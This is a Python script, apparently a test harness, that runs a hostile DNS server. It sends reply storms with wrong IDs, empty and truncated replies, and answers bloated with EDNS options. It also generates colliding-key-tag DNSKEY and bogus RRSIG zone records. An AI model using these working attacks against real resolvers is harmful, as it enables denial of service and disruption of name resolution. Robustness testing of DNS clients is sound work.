#!/usr/bin/env python3
"""A name server that does harm, in front of an honest one; and zones that do.

hostile_dns.py storm ADDR SERVER    before each answer hundreds with other ids
hostile_dns.py empty ADDR SERVER    UDP replies of no octets
hostile_dns.py close ADDR SERVER    sends to TCP, where it closes in the middle
hostile_dns.py options ADDR SERVER  thousands of EDNS options behind each answer
hostile_dns.py keys ZONE TAG N      N DNSKEY records of that key tag
hostile_dns.py signatures OWNER ZONE TTL TAG N   N RRSIG records over its IPSECKEY by it
"""
import base64
import random
import socket
import struct
import sys
import threading
import time

ALGORITHM = 8
random.seed(11)


def ask(m, server):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.sendto(m, (server, 53))
        return s.recv(65535)


def storm(s, m, who, server):
    reply = ask(m, server)
    for i in range(300):
        s.sendto(struct.pack(">H", (reply[0] << 8 | reply[1]) + 1 + i & 0xffff) + reply[2:], who)
    s.sendto(reply, who)


def empty(s, _m, who, _server):
    s.sendto(b"", who)


def close(s, m, who, _server):
    s.sendto(m[:2] + b"\x83\x80" + m[4:], who)	# truncated: come by TCP


def options(s, m, who, server):
    reply = ask(m, server)
    n, many = reply[10] << 8 | reply[11], struct.pack(">HH", 3, 0) * 300
    opt = b"\0" + struct.pack(">HHIH", 41, 1232, 0x8000, len(many)) + many
    s.sendto(reply[:10] + struct.pack(">H", n + 2) + reply[12:] + opt + opt, who)


def half_answers(addr):
    s = socket.create_server((addr, 53))
    while True:
        c, _ = s.accept()
        with c:
            c.settimeout(2)
            try:
                c.recv(2000)
                c.sendall(struct.pack(">H", 500) + bytes(100))
            except OSError:
                pass


def serve(how, addr, server):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((addr, 53))
    if how is close:
        threading.Thread(target=half_answers, args=(addr,), daemon=True).start()
    while True:
        m, who = s.recvfrom(65535)
        try:
            how(s, m, who, server)
        except (OSError, IndexError):
            pass


def tag(rdata):
    ac = sum(b << 8 if i % 2 == 0 else b for i, b in enumerate(rdata))
    return ac + (ac >> 16) & 0xffff


def with_tag(body, wanted):
    """Four octets behind BODY, the last of them odd, that give it that tag."""
    for low in (0x0101, 0x0102):
        start = tag(body + struct.pack(">HH", low, 0))
        for off in (-1, 0, 1):
            rdata = body + struct.pack(">HH", low, wanted - start + off & 0xffff)
            if tag(rdata) == wanted and rdata[-1] & 1:
                return rdata
    return None


def keys(zone, wanted, n):
    """RSA keys whose modulus means nothing, the sum of whose octets is as it must be."""
    done = 0
    while done < int(n):
        body = struct.pack(">HBB", 256, 3, ALGORITHM) + b"\3\1\0\1" + b"\xc3" + random.randbytes(251)
        rdata = with_tag(body, int(wanted))
        if rdata is not None:
            print(f"{zone} 3600 IN DNSKEY 256 3 {ALGORITHM} {base64.b64encode(rdata[4:]).decode()}")
            done += 1


def signatures(owner, zone, ttl, key_tag, n):
    day = 86400
    end, begin = (time.strftime("%Y%m%d%H%M%S", time.gmtime(time.time() + d)) for d in (day, -day))
    labels = len(owner.rstrip(".").split("."))
    for _ in range(int(n)):
        sig = base64.b64encode(b"\1" + random.randbytes(255)).decode()
        print(f"{owner} {ttl} IN RRSIG IPSECKEY {ALGORITHM} {labels} {ttl} {end} {begin} {key_tag} {zone} {sig}")


HOW = {"storm": storm, "empty": empty, "close": close, "options": options}
if sys.argv[1] in HOW:
    serve(HOW[sys.argv[1]], *sys.argv[2:])
elif sys.argv[1] == "keys":
    keys(*sys.argv[2:])
else:
    signatures(*sys.argv[2:])
